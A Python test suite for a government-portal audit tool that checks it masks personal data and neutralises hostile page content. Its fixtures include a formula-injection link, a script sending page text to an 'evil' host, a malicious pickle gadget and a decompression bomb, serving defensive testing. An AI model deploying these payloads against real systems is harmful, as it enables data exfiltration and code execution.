"""Hostile pages and hostile data (issue 27): what a portal's pages carry never reaches the
records raw — no personal data, no control characters — and one column's trouble stays
that column's."""

from __future__ import annotations

from datetime import date, timedelta

from sqlalchemy import inspect, select, text

from extractors.crawl import crawl_portal
from extractors.fetch import FetchPolicy
from portal_audit.catalog import Column, Portal
from validations.rules import load_ruleset
from validations.suite import validate
from warehouse.db import make_engine
from warehouse.load import finish_run, load_portal, start_run

AS_OF = date(2025, 6, 30)
POLICY = FetchPolicy(allow_private_networks=True, per_host_delay=0, retries=0)
ID_NUMBER, MOBILE = "342501198803154215", "13905631234"


def _hostile_site(pages) -> None:
    rows = "".join(
        f'<li><a href="/news/{i}.html?sfz={ID_NUMBER}">'
        f'第{i}期公示：张三 身份证{ID_NUMBER} 电话{MOBILE}\x00\x01\x1b[31m</a>'
        f'<span>{AS_OF - timedelta(days=i)}</span></li>' for i in range(1, 4))
    pages.add("/news/index.html", f"<html><head><title>工作动态</title></head><body><ul>{rows}</ul></body></html>")
    pages.add("/", f'<html><body><ul class="yw"><li><a href="/news/1.html">联系人李四{MOBILE}的通知公告</a>'
                   f'<span>{AS_OF}</span></li></ul></body></html>')


def test_personal_data_and_control_characters_never_reach_the_records_or_the_warehouse(site, warehouse_url):
    pages, base = site
    _hostile_site(pages)
    portal = Portal(id="p", name="门户", base_url=base, columns=[
        Column(id="news", path=["工作动态"], url="/news/index.html", frequency="及时更新")])
    crawl = crawl_portal(portal, AS_OF, POLICY)
    news = crawl.columns[0]
    assert len(news.items) == 3 and news.newest == AS_OF - timedelta(days=1)
    shown = [i.title for i in news.items] + [i.url for i in news.items] + [i.title for i in crawl.home_items]
    assert not any(ID_NUMBER in s or MOBILE in s or "\x00" in s or "\x1b" in s for s in shown)
    assert "342501********4215" in news.items[0].title and "139****1234" in crawl.home_items[0].title

    engine = make_engine(warehouse_url)  # PostgreSQL refuses NUL in text: the load must go through
    result = validate(list(crawl.columns), [portal], load_ruleset(), AS_OF)
    run_id = start_run(engine, AS_OF, "national-2019@1")
    load_portal(engine, run_id, portal, list(crawl.columns), result, crawl.home, crawl.home_items, crawl.links,
                crawl.findings)
    finish_run(engine, run_id, ok=True)
    with engine.connect() as conn:
        for table in inspect(engine).get_table_names():
            if table in ("evidence", "alembic_version"):
                continue  # the raw pages are kept as evidence, and only there
            for row in conn.execute(select(text("*")).select_from(text(table))):
                for value in row:
                    if isinstance(value, str):
                        assert ID_NUMBER not in value and MOBILE not in value and "\x00" not in value, (table, value)


def test_a_column_over_its_budget_is_judged_on_what_was_read_and_a_portal_over_its_budget_keeps_its_other_columns():
    """Page one of a column read, its page two never answering: over the column's budget the
    column is judged on page one. A column whose first page never answers, in a portal over its
    budget, is `error` with the reason; the portal's other column is read as usual."""
    import asyncio
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    release = threading.Event()

    class Slow(BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def do_GET(self):
            if self.path in ("/col/a/index_1.html", "/stuck/index.html"):
                release.wait(20)  # hangs until the test is over
            rows = "".join(f'<li><a href="{self.path}{i}.html">第{i}条工作动态信息</a>'
                           f'<span>{AS_OF - timedelta(days=i)}</span></li>'
                           for i in range(1, 4))
            pager = '<script>createPageHTML(3, 0, "index", "html");</script>' if self.path.startswith("/col/a/") else ""
            body = f'<html><body><ul>{rows}</ul>{pager}</body></html>'.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Slow)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}/"
    portal = Portal(id="p", name="慢", base_url=base, columns=[
        Column(id="paged", path=["工作动态"], url="/col/a/index.html", frequency="及时更新"),
        Column(id="stuck", path=["通知公告"], url="/stuck/index.html", frequency="及时更新"),
        Column(id="ok", path=["政策文件"], url="/col/b/list.html", frequency="及时更新")])
    from extractors.crawl import crawl_portal_async

    try:
        column_policy = FetchPolicy(allow_private_networks=True, per_host_delay=0, retries=0, timeout=30,
                                    page_deadline=30, column_budget=2.0, portal_budget=60, obey_robots=False)
        crawl = asyncio.run(crawl_portal_async(Portal(**{**portal.model_dump(), "columns": portal.columns[:1]}), AS_OF,
                                               column_policy))
        paged = crawl.columns[0]
        assert paged.fetch_state == "ok" and len(paged.items) == 3 and paged.error.key == "crawl.column_budget"
        portal_policy = FetchPolicy(allow_private_networks=True, per_host_delay=0, retries=0, timeout=30,
                                    page_deadline=30, column_budget=60, portal_budget=2.0, obey_robots=False)
        crawl = asyncio.run(crawl_portal_async(Portal(**{**portal.model_dump(), "columns": portal.columns[1:]}), AS_OF,
                                               portal_policy))
        stuck, ok = crawl.columns
        assert stuck.fetch_state == "error" and stuck.error.key == "crawl.portal_budget"
        assert "本网站检查超过2秒上限" in stuck.error.render("zh")
        assert ok.fetch_state == "ok" and len(ok.items) == 3
    finally:
        release.set()
        server.shutdown()


HOSTILE = ['=HYPERLINK("http://evil.example/?leak","点击")', "![](http://evil.example/track.png)",
           "[点这里](javascript:alert(1))", "标题\x1b[31m\x01带控制字符", "<script>alert(1)</script>通知"]


def _hostile_warehouse(url: str):
    """A warehouse holding hostile text as older runs might have stored it (records made by
    hand, not through a crawl that cleans them), two portals of two units."""
    from portal_audit.records import ColumnCrawl, Finding, Item, Link, LinkCheck, PageFetch

    engine = make_engine(url)
    run_id = start_run(engine, AS_OF, "national-2019@1")
    for pid, unit in (("a", "甲单位"), ("b", "乙单位")):
        portal = Portal(id=pid, name=f"门户{pid}", base_url=f"http://{pid}.gov.cn/", columns=[
            Column(id="news", path=["工作动态"], url="/news/", frequency="及时更新", responsible=unit)])
        body = b"<html><body><script>fetch('../x.html').then(r=>r.text()).then(t=>new Image().src='http://evil/?'+t)</script></body></html>"
        crawls = [ColumnCrawl(pid, "news", f"http://{pid}.gov.cn/news/", "ok",
                              tuple(Item(t, f"http://{pid}.gov.cn/news/{i}.html", AS_OF - timedelta(days=i + 1))
                                    for i, t in enumerate(HOSTILE)),
                              (PageFetch.of_body(f"http://{pid}.gov.cn/news/", 200, body, 5.0),))]
        link = Link(f"http://{pid}.gov.cn/gone.html", f"http://{pid}.gov.cn/news/", HOSTILE[0], "a")
        result = validate(crawls, [portal], load_ruleset(), AS_OF)
        load_portal(engine, run_id, portal, crawls, result, None, (),
                    (LinkCheck(link, "站内", "网页", False, "broken", 404),),
                    (Finding("wording", "phrase", "serious", HOSTILE[1], HOSTILE[2], HOSTILE[0],
                             f"http://{pid}.gov.cn/news/", "news"),))
    finish_run(engine, run_id, ok=True)
    return engine, run_id


def test_reports_keep_hostile_text_inert(tmp_path):
    """Issue 27: no formula in a spreadsheet, no control character breaking XLSX or Word, no
    live Markdown or HTML, and evidence pages that run no script next to the report."""
    import openpyxl

    from reporting.writers import write_report

    engine, run_id = _hostile_warehouse(f"sqlite:///{tmp_path / 'audit.db'}")
    for fmt in ("md", "csv", "xlsx", "html", "docx"):
        write_report(engine, run_id, fmt, tmp_path / f"report.{fmt}")  # none fails on a control character
    book = openpyxl.load_workbook(tmp_path / "report.xlsx")
    cells = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [v for v in cells if v.startswith(("=", "+", "-", "@"))]
    assert any(v.startswith("'=HYPERLINK") for v in cells)
    assert not any("\x1b" in v or "\x01" in v for v in cells)
    import csv

    with open(tmp_path / "report.csv", encoding="utf-8-sig") as f:
        assert not [v for row in csv.reader(f) for v in row if v.startswith(("=", "+", "@"))]
    md = (tmp_path / "report.md").read_text(encoding="utf-8")
    assert "![](" not in md and "[点这里](javascript:" not in md and "<script>" not in md
    assert "!\\[\\](http://evil.example/track.png)" in md and "\\[点这里\\](javascript:" in md  # shown, inert
    evidence = next((tmp_path / "report_evidence").glob("*.html")).read_text(encoding="utf-8")
    assert "<iframe sandbox srcdoc=" in evidence and "default-src 'none'" in evidence
    assert "<script>fetch" not in evidence  # the page is inert text inside the sandboxed frame


def test_a_unit_filter_shows_only_that_units_portals(tmp_path):
    from reporting.writers import Filters, load_report

    engine, run_id = _hostile_warehouse(f"sqlite:///{tmp_path / 'audit.db'}")
    mine = load_report(engine, run_id, Filters(units=["甲单位"]))
    assert set(mine.links["portal_id"]) == {"a"} and set(mine.findings["portal_id"]) == {"a"}
    nobody = load_report(engine, run_id, Filters(units=["没有这个单位"]))
    assert nobody.links.empty and nobody.findings.empty and nobody.checks.empty


def test_a_warehouse_password_is_never_a_flow_parameter(tmp_path, postgres_url, prefect_harness, site):
    """Issue 27: `--warehouse` with a password runs the audit, and neither Prefect's stored flow
    run parameters nor the CLI's output hold the password."""
    import asyncio
    import contextlib
    import io
    import os

    import yaml
    from prefect.client.orchestration import get_client

    from app.cli import main

    pages, base = site
    pages.add("/news/", "<html><body><ul><li><a href='/news/1.html'>关于开展检查工作的通知</a>"
                        "<span>2025-06-28</span></li></ul></body></html>")
    catalog = tmp_path / "c.yaml"
    catalog.write_text(yaml.safe_dump({"allow_private_networks": True, "checks": {"links": "none"},
                                       "politeness": {"delay": 0, "retries": 0},
                                       "portals": [{"id": "p", "name": "门户", "base_url": base, "columns": [
                                           {"id": "news", "path": ["工作动态"], "url": "/news/",
                                            "frequency": "及时更新"}]}]},
                                      allow_unicode=True), encoding="utf-8")
    url = postgres_url.replace("audit@", "audit:Sup3rSecret@")  # trust auth: the password is carried, not needed
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed):
        code = main(["audit", str(catalog), "--as-of", AS_OF.isoformat(), "--warehouse", url, "--data-docs", "",
                     "--reports", ""])
    assert code == 0 and "Sup3rSecret" not in printed.getvalue()
    assert os.environ.get("PORTAL_AUDIT_WAREHOUSE") != url  # the process's environment is restored

    async def parameters():
        async with get_client() as client:
            return [r.parameters for r in await client.read_flow_runs()]
    stored = asyncio.run(parameters())
    assert stored and not any("Sup3rSecret" in str(p) for p in stored)


def test_a_double_gzip_bomb_hits_the_cap_before_it_grows(site):
    """`Content-Encoding: gzip, gzip`: a few KB that decode to 200 MB. Each layer is undone in
    steps no larger than the cap, so the fetch stops at the cap without ever holding the bomb."""
    import asyncio
    import tracemalloc

    import pytest

    from extractors.fetch import Fetcher, TooLarge

    from .faults import double_gzip_bomb

    pages, base = site
    bomb = double_gzip_bomb()
    assert len(bomb) < 20_000
    pages.add("/bomb", bomb, ctype="text/html", headers={"Content-Encoding": "gzip, gzip"})

    async def get():
        async with Fetcher(POLICY) as f:
            return await f.get(base + "bomb")

    tracemalloc.start()
    try:
        with pytest.raises(TooLarge):
            asyncio.run(get())
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 40 * 1024 * 1024  # the 5 MB cap and its working copies, not 200 MB


def test_regexes_stay_linear_on_hostile_pages():
    """Issue 27: pages built to make a lazy regex rescan to the end at every occurrence (a
    150 KB page took 143 s of CPU before): every reader handles them within a small multiple
    of its time on a normal page of the same size. The floor of 10 s of CPU keeps a busy
    machine from failing it while a quadratic reader (minutes) still fails."""
    import time

    from extractors.linkcheck import _page_outcome
    from extractors.listpage import parse_list_page, site_wide_links
    from validations.content import leaks

    size = 150_000
    rows = "".join(f'<li><a href="/col/1/{i}.html">第{i}条工作动态信息</a><span>2025-06-{1 + i % 28:02d}</span></li>'
                   for i in range(size // 70))
    normal = f"<html><head><title>工作动态</title></head><body><ul>{rows}</ul></body></html>"[:size]
    normal_text = "。".join(f"第{i}条信息，联系电话请见附件" for i in range(size // 16))[:size]

    def hostile(unit: str, wrap: str = "{}") -> str:
        return wrap.format(unit * (size // len(unit)))

    readers = {
        "list page": lambda h: parse_list_page(h, "http://x.gov.cn/col/1/index.html", AS_OF),
        "site-wide links": lambda h: site_wide_links([("http://x.gov.cn/a/", h)] * 3),
        "link check": lambda h: _page_outcome(200, h.encode(), "utf-8", True),
        "leaks": lambda h: leaks("p", h),
    }
    attacks = {
        "list page": [hostile("<record><![CDATA["), hostile("<a "), hostile("Pager({", "<script>{}</script>"),
                      hostile("pageChnlInfo={listArgs:{", "<script>{}</script>"), hostile("位置：<p>")],
        "site-wide links": [hostile("<a "), hostile("<a href")],
        "link check": [hostile("<title>"), hostile("<script"), hostile("<style")],
        "leaks": [hostile("13905631234 "), hostile("342501198803154215 ")],
    }

    def cpu(fn, page: str) -> float:
        start = time.process_time()
        fn(page)
        return time.process_time() - start

    for name, read in readers.items():
        base = cpu(read, normal_text if name == "leaks" else normal)
        for page in attacks[name]:
            took = cpu(read, page)
            print(name, repr(page[:12]), round(took, 3), round(base, 3))
            assert took < max(30 * base, 10.0), (name, page[:30], took, base)


class _Payload:
    """What a planted pickle does when read: writes a file (a real attack runs a shell)."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (open, (self.marker, "w"))


def test_a_spool_is_json_and_a_planted_pickle_is_never_read(tmp_path, caplog):
    """Issue 27: the spool was a pickle read from the working directory, so whoever could
    write there ran code as the audit. A spool is JSON now (records and nothing else, page
    bodies in base64, dates and messages as they were); a .pkl beside it is not read."""
    import pickle
    import zlib

    from flows.commit import RunSpec, load_spool, spool_finish, spool_portal
    from portal_audit.i18n import msg
    from portal_audit.records import ColumnCrawl, Item, PageFetch, PortalCrawl

    url, spool = f"sqlite:///{tmp_path / 'audit.db'}", tmp_path / "spool"
    run_id = start_run(make_engine(url), AS_OF, "national-2019@1")
    portal = Portal(id="p", name="门户", base_url="http://x.gov.cn/", columns=[
        Column(id="news", path=["工作动态"], url="/news/", frequency="及时更新")])
    page = PageFetch(url="http://x.gov.cn/news/", status=200, nbytes=5, elapsed_ms=3.0,
                     content=zlib.compress("<ul>\xff\x00</ul>".encode()), error=msg("crawl.partial", n=2, on=AS_OF))
    crawl = PortalCrawl("p", None, (ColumnCrawl("p", "news", page.url, "ok",
                                                (Item("通知", page.url + "1.html", AS_OF),), (page,)),))
    run = RunSpec(run_id, AS_OF, "national-2019")
    path = spool_portal(spool, url, run, portal, crawl)
    assert path.name == "p.crawl.json"
    from flows.commit import _Spooled
    assert _Spooled.model_validate_json(path.read_bytes()).crawl == crawl  # bytes, dates and messages intact

    marker = tmp_path / "pwned"
    (spool / run_id / "q.pkl").write_bytes(pickle.dumps(_Payload(str(marker))))
    spool_finish(spool, url, run_id, ok=True, message=None)
    loaded = load_spool(make_engine(url), url, spool)
    assert loaded.runs == [run_id] and loaded.portals == 1
    assert not marker.exists()
    assert "q.pkl" in caplog.text and "pickle" in caplog.text


def test_a_slow_portal_holds_back_no_other_portal_of_its_shard(tmp_path, prefect_harness, monkeypatch) -> None:
    """Issue 27: a shard loaded its portals only once all had crawled, so one slow portal kept
    the others out of the warehouse (and a run killed on its time limit lost them). Portals
    finished are now validated and loaded while the slow one still crawls."""
    import contextlib
    import io
    import threading
    import time as clock

    import yaml

    import flows.shard
    from app.cli import main
    from app.demo.site import serve
    from tests.conftest import Pages

    monkeypatch.setattr(flows.shard, "LOAD_EVERY", 0.5)
    release = threading.Event()

    class Slow(Pages):
        def response(self, path: str):
            if path == "/news/":
                release.wait(60)
            return super().response(path)

    servers, portals = [], []
    for pid, pages in (("fast", Pages()), ("slow", Slow())):
        pages.add("/news/", f"<html><body><ul><li><a href='/news/1.html'>关于开展{pid}检查工作的通知</a>"
                            f"<span>2025-06-28</span></li></ul></body></html>")
        server, base = serve(pages)
        servers.append(server)
        portals.append({"id": pid, "name": pid, "base_url": base, "columns": [
            {"id": "news", "path": ["工作动态"], "url": "/news/", "frequency": "及时更新"}]})
    catalog = tmp_path / "c.yaml"
    catalog.write_text(yaml.safe_dump({"allow_private_networks": True, "checks": {"links": "none", "content": False},
                                       "politeness": {"delay": 0, "retries": 0, "timeout": 90},
                                       "portals": portals}, allow_unicode=True), encoding="utf-8")
    url = f"sqlite:///{tmp_path / 'audit.db'}"
    seen: list[set[str]] = []

    def watch() -> None:  # what the warehouse holds while the slow portal's list is held back
        deadline = clock.monotonic() + 60
        while clock.monotonic() < deadline and not release.is_set():
            with contextlib.suppress(Exception), make_engine(url, create=False).connect() as conn:
                loaded = {r[0] for r in conn.execute(text("SELECT DISTINCT portal_id FROM column_audits"))}
                if loaded:
                    seen.append(loaded)
                    break
            clock.sleep(0.2)
        release.set()

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    try:
        with contextlib.redirect_stdout(io.StringIO()):
            code = main(["audit", str(catalog), "--as-of", AS_OF.isoformat(), "--warehouse", url, "--data-docs", "",
                         "--reports", ""])
    finally:
        release.set()
        for server in servers:
            server.shutdown()
    watcher.join()
    assert code == 0
    assert seen == [{"fast"}]  # loaded while the slow portal was still crawling
    with make_engine(url, create=False).connect() as conn:
        assert dict(conn.execute(text("SELECT portal_id, status FROM column_audits")).all()) == {"fast": "fresh",
                                                                                               "slow": "fresh"}


def test_one_unreadable_page_cannot_turn_a_failing_portal_into_unknown(site):
    """Issue 27: a portal with 10 stale columns plus one page that broke the crawler came out
    `unknown` (every column `error`), its twin without that page `fail`. The page is now its
    own column's error and the item is judged on the columns read: both twins fail."""
    from portal_audit.records import ColumnPath

    pages, base = site
    stale = AS_OF - timedelta(days=400)
    for i in range(10):
        pages.add(f"/col/{i}/", f"<html><body><ul><li><a href='/col/{i}/1.html'>第{i}栏目的旧信息</a>"
                                f"<span>{stale}</span></li></ul></body></html>")
    pages.add("/api/list?page=1", "[" * 50_000 + "]" * 50_000, ctype="application/json")
    columns = [Column(id=f"c{i}", path=[f"栏目{i}"], url=f"/col/{i}/", frequency="及时更新") for i in range(10)]
    outcomes = {}
    for twin, extra in (("plain", []),
                        ("bomb", [Column(id="deep", path=["通知公告"], url="/deep/", frequency="及时更新")])):
        portal = Portal(id=twin, name=twin, base_url=base, columns=columns + extra)
        crawl = crawl_portal(portal, AS_OF, POLICY, paths={"deep": ColumnPath("api", f"json {base}api/list?page=1")})
        result = validate(list(crawl.columns), [portal], load_ruleset(), AS_OF)
        item = next(c for c in result.portals[0].checks if c.item == "columns_not_updated")
        outcomes[twin] = (item.outcome, sorted(v.status for v in result.verdicts if v.column_id == "deep"))
    assert outcomes == {"plain": ("fail", []), "bomb": ("fail", ["error"])}
